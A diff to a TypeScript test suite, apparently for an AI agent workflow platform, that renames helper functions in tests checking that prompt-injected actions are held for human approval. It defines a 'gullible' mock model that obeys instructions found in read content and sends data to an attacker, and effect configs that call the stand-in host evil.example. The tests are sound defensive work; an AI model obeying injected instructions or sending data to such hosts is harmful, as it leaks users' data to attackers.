@@ -16,7 +16,14 @@ import { builtInNodes } from '../built-in-nodes.ts'
 import { createWorkflow } from '../logic/test-logic.ts'
 import { createMemoryFile } from '../requests/memory-file.ts'
 import { toolSchema } from './agent-settings.ts'
-import { agentConfig, calls, closeTestTables, openTestServices, runWithServices, sendTool } from './test-agents.ts'
+import {
+  createAgentConfig,
+  createToolCalls,
+  closeTestTables,
+  openTestServices,
+  runWithServices,
+  createSendTool,
+} from './test-agents.ts'
 
 afterAll(closeTestTables)
 
@@ -57,12 +64,14 @@ function gullible({ messages, tools = [], response_format: format }: RequestBody
   const hasAttack = text.includes(attack) || text.includes(Buffer.from(attack).toString('base64').slice(0, 8))
   const reading = names.filter((name) => name.startsWith('read') && !called.has(name))
   if (reading.length > 0)
-    return calls(
+    return createToolCalls(
       ...reading.map((name): [string, Json] => [name, name === 'read_sql' ? { statement: 'SELECT * FROM input' } : {}]),
     )
   const effects = names.filter((name) => !name.startsWith('read') && !called.has(name))
   if (hasAttack && effects.length > 0)
-    return calls(...effects.map((name): [string, Json] => [name, { to: attacker, text: text.slice(0, 4000) }]))
+    return createToolCalls(
+      ...effects.map((name): [string, Json] => [name, { to: attacker, text: text.slice(0, 4000) }]),
+    )
   return { says: `I know ${text.slice(0, 500)}` }
 }
 
@@ -124,7 +133,7 @@ const readers: Record<string, (text: string) => Reading> = {
   'tool node': (text) => readNode('give', { json: text }),
   'tool workflow': (text) => readWorkflow({ t: ['give', { json: text }] }, [], { node: 't', port: 'out' }),
   agent: (text) =>
-    readNode('agent', agentConfig({ prompt: `Summarize: ${text}`, tools: [sendTool({ name: 'mail' })] })),
+    readNode('agent', createAgentConfig({ prompt: `Summarize: ${text}`, tools: [createSendTool({ name: 'mail' })] })),
   webhook: (text) => ({ value: ['webhook', { sample: JSON.stringify({ text }) }] }),
   event: (text) => ({ value: ['event', { sample: JSON.stringify({ text }) }] }),
   http_request: () => readNode('http_request', { url: 'http://reader.example/page', response: 'text' }),
@@ -159,7 +168,7 @@ const effects: Record<string, Config> = {
   'tool mcp': { kind: 'mcp', use: 'Tickets', config: { tool: 'create' } },
   'tool workflow': { kind: 'workflow', config: createSender('email') as never },
   sub_workflow: { use: 'sub_workflow', config: { document: createSender('email') as never } },
-  agent: { use: 'agent', config: agentConfig({ tools: [sendTool({ name: 'mail', approval: 'never' })] }) },
+  agent: { use: 'agent', config: createAgentConfig({ tools: [createSendTool({ name: 'mail', approval: 'never' })] }) },
   http_request: { use: 'http_request', config: { url: 'http://evil.example/{{input.value.to}}' } },
   custom_tool: { use: 'custom_tool', config: { url: 'http://evil.example/{{input.value.to}}' } },
   loading: { use: 'loading', config: { address: 'http://evil.example/{{input.value.to}}' } },
@@ -351,7 +360,7 @@ async function openAttackedWorld() {
           rows: ['give', { json: rows }],
           table: ['transform', { expression: 'input', result: 'table' }],
           ...(value ? { value } : {}),
-          a: ['agent', agentConfig({ tools: [...readingTools, ...tools] as never, maxSteps: 4, ...agent })],
+          a: ['agent', createAgentConfig({ tools: [...readingTools, ...tools] as never, maxSteps: 4, ...agent })],
         },
         [
           'rows.out>table.input',
@@ -401,9 +410,9 @@ describe('a model that obeys every instruction it reads', () => {
       const { testServices, performed, outbox, listOtherUrls, run, close } = await openAttackedWorld()
       let attempts = 0
       for (const text of texts) {
-        const { view, asked } = await run(readers[reader]!(text), allEffects, text)
+        const { view, pendingApproval } = await run(readers[reader]!(text), allEffects, text)
         // It obeys, so it tries; a person is asked before anything happens.
-        if (asked) attempts++
+        if (pendingApproval) attempts++
         expect(['waiting', 'completed'], JSON.stringify(view.nodes.a?.error)).toContain(view.state)
       }
       expect(attempts).toBeGreaterThan(texts.length / 2)
@@ -421,8 +430,8 @@ describe('a model that obeys every instruction it reads', () => {
     async (_name, index) => {
       const { performed, outbox, listOtherUrls, run, close } = await openAttackedWorld()
       for (const text of selectTexts(index, cases.slice(0, Object.keys(wrappers).length))) {
-        const { asked } = await run(readers['a value']!(text), [allEffects[index]!], text)
-        expect(asked?.shown).toMatchObject({ tool: `effect_${index}` })
+        const { pendingApproval } = await run(readers['a value']!(text), [allEffects[index]!], text)
+        expect(pendingApproval?.shown).toMatchObject({ tool: `effect_${index}` })
       }
       expect(performed).toEqual([])
       expect(outbox).toEqual([])
